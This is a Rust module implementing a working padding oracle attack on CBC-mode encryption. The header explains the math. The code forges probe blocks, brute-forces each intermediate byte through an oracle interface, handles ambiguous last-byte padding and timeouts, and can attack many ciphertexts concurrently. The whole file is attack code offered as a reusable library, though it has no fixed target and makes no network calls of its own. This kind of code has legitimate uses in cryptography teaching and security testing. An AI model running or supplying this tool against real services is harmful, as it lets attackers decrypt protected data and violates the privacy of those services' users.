// Padding oracle attack on CBC.
//
// Decryption of a block is
//
//                 P_i = D(C_i) ⊕ C_{i-1} = I_i ⊕ C_{i-1}.
//
// Sending the oracle a probe whose last two blocks are (X, C_i) makes it
// check the padding of I_i ⊕ X. The attacker controls X, so each byte of I_i
// can be found by searching for the value of X that makes the tail of I_i ⊕ X
// look like padding:
//
//   - vary X[15] until the oracle accepts; then I_i[15] ⊕ X[15] = 0x01,
//   - set X[15] = 0x02 ⊕ I_i[15] and vary X[14] until the oracle accepts;
//     then I_i[14] ⊕ X[14] = 0x02,
//
// and so on down to X[0]. Once I_i is known, P_i = I_i ⊕ C_{i-1} with the real
// previous block. Blocks are attacked from the last to the first; the IV is
// never attacked.
//
// Below, X is called the forged block.
use std::{sync::Arc, time::Duration};

use futures::future::join_all;
use log::{debug, info, warn};
use rand::{rngs::StdRng, RngCore, SeedableRng};

use crate::{
    block_count, xor_blocks, AttackError, Block, OracleError, PaddingOracle, BLOCK_SIZE, TAG_LEN,
};

const LAST: usize = BLOCK_SIZE - 1;

/// Initial content of the forged block.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum ProbeFill {
    /// Random bytes, so the forged block rarely reproduces the real
    /// plaintext's padding by accident.
    #[default]
    Random,
    /// The genuine previous ciphertext block.
    Preserve,
}

#[derive(Debug, Clone, Default)]
pub struct AttackConfig {
    pub fill: ProbeFill,
    /// Accept the first candidate for the last byte of a block without
    /// checking whether it only validated as longer padding.
    pub bug_compatible: bool,
    /// Limit on a single oracle query. A query that runs out aborts the block.
    pub query_timeout: Option<Duration>,
    pub seed: Option<u64>,
}

impl AttackConfig {
    pub fn with_fill(mut self, fill: ProbeFill) -> Self {
        self.fill = fill;
        self
    }

    pub fn bug_compatible(mut self, bug_compatible: bool) -> Self {
        self.bug_compatible = bug_compatible;
        self
    }

    pub fn with_query_timeout(mut self, timeout: Duration) -> Self {
        self.query_timeout = Some(timeout);
        self
    }

    pub fn with_seed(mut self, seed: u64) -> Self {
        self.seed = Some(seed);
        self
    }

    fn rng(&self) -> StdRng {
        match self.seed {
            Some(seed) => StdRng::seed_from_u64(seed),
            None => StdRng::from_entropy(),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BlockStats {
    pub block: usize,
    /// Candidates sent to the oracle for each byte position.
    pub guesses: [u16; BLOCK_SIZE],
    /// Extra queries spent checking candidates for the last byte.
    pub confirmations: u16,
    /// Candidates for the last byte that turned out to be longer padding.
    pub ambiguities: u16,
}

impl BlockStats {
    fn new(block: usize) -> Self {
        Self {
            block,
            guesses: [0; BLOCK_SIZE],
            confirmations: 0,
            ambiguities: 0,
        }
    }

    pub fn queries(&self) -> u64 {
        self.guesses.iter().map(|&g| g as u64).sum::<u64>() + self.confirmations as u64
    }
}

/// An attack on one ciphertext.
///
/// Completed blocks are kept when a block fails, so calling [`Attack::run`]
/// again picks up at the failed block with a fresh probe.
pub struct Attack<'a, O: PaddingOracle + ?Sized> {
    oracle: &'a O,
    config: AttackConfig,
    rng: StdRng,
    ciphertext: Vec<u8>,
    recovered: Vec<u8>,
    next_block: usize,
    stats: Vec<BlockStats>,
}

impl<'a, O: PaddingOracle + ?Sized> Attack<'a, O> {
    pub fn new(oracle: &'a O, ciphertext: &[u8], config: AttackConfig) -> Result<Self, AttackError> {
        let n_blocks = block_count(ciphertext)?;
        Ok(Self {
            oracle,
            rng: config.rng(),
            config,
            ciphertext: ciphertext.to_vec(),
            recovered: ciphertext.to_vec(),
            next_block: n_blocks - 1,
            stats: Vec::with_capacity(n_blocks - 1),
        })
    }

    /// Number of blocks in the ciphertext, IV included.
    pub fn n_blocks(&self) -> usize {
        self.ciphertext.len() / BLOCK_SIZE
    }

    /// Index of the block the attack will work on next.
    pub fn next_block(&self) -> Option<usize> {
        (self.next_block > 0).then_some(self.next_block)
    }

    pub fn is_complete(&self) -> bool {
        self.next_block == 0
    }

    /// Statistics for the completed blocks, last block first.
    pub fn stats(&self) -> &[BlockStats] {
        &self.stats
    }

    pub fn queries(&self) -> u64 {
        self.stats.iter().map(BlockStats::queries).sum()
    }

    /// Recovered plaintext with padding and tag still attached. Blocks not yet
    /// attacked still hold ciphertext.
    pub fn padded_plaintext(&self) -> &[u8] {
        &self.recovered[BLOCK_SIZE..]
    }

    pub async fn run(&mut self) -> Result<&[u8], AttackError> {
        while self.recover_next_block().await?.is_some() {}
        Ok(self.padded_plaintext())
    }

    /// Recovers one block, returning its index, or `None` once every block is
    /// done.
    pub async fn recover_next_block(&mut self) -> Result<Option<usize>, AttackError> {
        let Some(block) = self.next_block() else {
            return Ok(None);
        };

        let mut stats = BlockStats::new(block);
        let plaintext_block = self.crack_block(block, &mut stats).await?;
        let range = (block * BLOCK_SIZE)..((block + 1) * BLOCK_SIZE);
        self.recovered[range].copy_from_slice(&plaintext_block);
        info!(
            "recovered block {block} of {} in {} queries",
            self.n_blocks() - 1,
            stats.queries()
        );
        self.stats.push(stats);
        self.next_block -= 1;
        Ok(Some(block))
    }

    async fn crack_block(&mut self, block: usize, stats: &mut BlockStats) -> Result<Block, AttackError> {
        let prev_block = self.block(block - 1);
        let target_block = self.block(block);

        // Only the last two blocks of the probe decide its padding; the rest
        // is filler so the probe keeps the ciphertext's length.
        let mut probe = self.ciphertext.clone();
        let target = probe.len() - BLOCK_SIZE;
        let forged = target - BLOCK_SIZE;
        probe[target..].copy_from_slice(&target_block);
        match self.config.fill {
            ProbeFill::Random => self.rng.fill_bytes(&mut probe[forged..target]),
            ProbeFill::Preserve => probe[forged..target].copy_from_slice(&prev_block),
        }

        let mut intermediate = [0u8; BLOCK_SIZE];
        for position in (0..BLOCK_SIZE).rev() {
            let padding_len = (BLOCK_SIZE - position) as u8;
            for k in (position + 1)..BLOCK_SIZE {
                probe[forged + k] = padding_len ^ intermediate[k];
            }

            let candidate = self
                .find_candidate(block, position, &mut probe, forged, stats)
                .await?
                .ok_or(AttackError::NoValidByte { block, position })?;
            intermediate[position] = padding_len ^ candidate;
            debug!(
                "block {block} byte {position}: intermediate {:#04x}",
                intermediate[position]
            );
        }

        Ok(xor_blocks(&intermediate, &prev_block))
    }

    async fn find_candidate(
        &self,
        block: usize,
        position: usize,
        probe: &mut [u8],
        forged: usize,
        stats: &mut BlockStats,
    ) -> Result<Option<u8>, AttackError> {
        for candidate in 0..=255u8 {
            probe[forged + position] = candidate;
            stats.guesses[position] += 1;
            if !self.padding_accepted(block, probe).await? {
                continue;
            }
            if position == LAST && !self.config.bug_compatible {
                // Genuine 0x01 padding does not depend on the byte before it;
                // an accidental 0x02 0x02 (or longer) does.
                probe[forged + LAST - 1] ^= 0xff;
                stats.confirmations += 1;
                let confirmed = self.padding_accepted(block, probe).await;
                probe[forged + LAST - 1] ^= 0xff;
                if !confirmed? {
                    stats.ambiguities += 1;
                    warn!("block {block}: candidate {candidate:#04x} only validated as longer padding");
                    continue;
                }
            }
            return Ok(Some(candidate));
        }
        Ok(None)
    }

    async fn padding_accepted(&self, block: usize, probe: &[u8]) -> Result<bool, AttackError> {
        let query = self.oracle.query(probe);
        let verdict = match self.config.query_timeout {
            Some(limit) => tokio::time::timeout(limit, query)
                .await
                .unwrap_or(Err(OracleError::Timeout(limit))),
            None => query.await,
        };
        verdict.map(|v| v.padding_accepted()).map_err(|source| {
            warn!("aborting block {block}: {source}");
            AttackError::OracleUnavailable { block, source }
        })
    }

    fn block(&self, index: usize) -> Block {
        let mut out = [0u8; BLOCK_SIZE];
        out.copy_from_slice(&self.ciphertext[(index * BLOCK_SIZE)..((index + 1) * BLOCK_SIZE)]);
        out
    }
}

/// Drops the padding and the tag from a recovered plaintext.
///
/// The padding length is read from the last byte and trusted as is.
pub fn strip_recovered(padded: &[u8]) -> Result<Vec<u8>, AttackError> {
    let pad_len = padded.last().copied().unwrap_or(0);
    let trailer = pad_len as usize + TAG_LEN;
    if padded.is_empty() || trailer > padded.len() {
        return Err(AttackError::MalformedRecovery {
            len: padded.len(),
            pad_len,
        });
    }
    Ok(padded[..(padded.len() - trailer)].to_vec())
}

/// Recovers the message inside `ciphertext` using nothing but `oracle`.
pub async fn recover<O: PaddingOracle + ?Sized>(
    oracle: &O,
    ciphertext: &[u8],
    config: AttackConfig,
) -> Result<Vec<u8>, AttackError> {
    let mut attack = Attack::new(oracle, ciphertext, config)?;
    let padded = attack.run().await?;
    strip_recovered(padded)
}

/// Attacks independent ciphertexts concurrently, one task each, sharing the
/// oracle. Results come back in input order.
pub async fn recover_many<O: PaddingOracle + 'static>(
    oracle: Arc<O>,
    ciphertexts: Vec<Vec<u8>>,
    config: AttackConfig,
) -> Vec<Result<Vec<u8>, AttackError>> {
    let tasks: Vec<_> = ciphertexts
        .into_iter()
        .enumerate()
        .map(|(i, ciphertext)| {
            let oracle = Arc::clone(&oracle);
            let mut config = config.clone();
            config.seed = config.seed.map(|seed| seed.wrapping_add(i as u64));
            tokio::spawn(async move { recover(oracle.as_ref(), &ciphertext, config).await })
        })
        .collect();

    join_all(tasks)
        .await
        .into_iter()
        .map(|res| res.unwrap_or_else(|e| Err(AttackError::Aborted(e.to_string()))))
        .collect()
}
